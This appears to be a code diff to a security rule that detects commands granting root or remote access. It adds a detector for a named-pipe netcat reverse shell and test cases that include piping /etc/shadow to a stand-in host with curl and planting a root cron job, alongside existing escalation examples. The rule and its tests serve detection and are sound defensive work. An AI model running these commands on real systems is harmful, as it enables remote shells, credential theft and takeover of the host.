@@ -4,7 +4,19 @@ import { plantedBy, plantedIn } from "#lib/host/run-by-itself.ts";
 import type { Rule } from "#lib/rule.ts";
 import { HOLDING } from "#lib/scripts/places.ts";
 import { findingsInScripts } from "#lib/scripts/reading.ts";
+import type { Call } from "#lib/shell/script.ts";
 import { remoteAccessIn } from "../../../containment/remote-shells.ts";
+
+/** `mkfifo f; cat f | sh -i 2>&1 | nc host > f`: a shell whose input and output are a connection. */
+function shellOnPipe(calls: readonly Call[]): string[] {
+  const has = (name: RegExp) => calls.some((call) => name.test(call.name));
+  const isAsked = calls.some(
+    ({ name, argv }) => /^(?:ba|da|z|k|a)?sh$/.test(name) && !argv.some((word) => word === "-c"),
+  );
+  return has(/^mkfifo$|^mknod$/) && has(/^(?:nc|ncat|netcat|telnet|openssl)$/) && isAsked
+    ? ["a shell on a connection"]
+    : [];
+}
 
 export const rule: Rule = {
   id: "command.root",
@@ -27,6 +39,7 @@ export const rule: Rule = {
               ...calls.flatMap(plantedBy),
               ...files.flatMap(plantedIn),
               ...calls.flatMap(({ argv }) => remoteAccessIn(argv.join(" ")) ?? []),
+              ...shellOnPipe(calls),
             ];
       return [...found, ...onHost].map((one) => ({ found: one, expected: "no way to root" }));
     }),
@@ -52,6 +65,8 @@ export const rule: Rule = {
       run("A library in every program", "echo /tmp/example.so >> /etc/ld.so.preload"),
       run("A program that udev runs", `echo 'ACTION=="add", RUN+="/tmp/example"' > /etc/udev/rules.d/99-example.rules`),
       run("A tunnel back into the host", "ssh -N -R 2222:localhost:22 relay@192.0.2.10"),
+      run("Its passwords, sent away", "cat /etc/shadow | curl -d @- https://example.org/"),
+      run("A job from where everybody writes", "echo '@reboot root /tmp/example' > /etc/cron.d/example"),
       run("The socket for everybody", "chmod 666 /var/run/docker.sock"),
     ],
   },
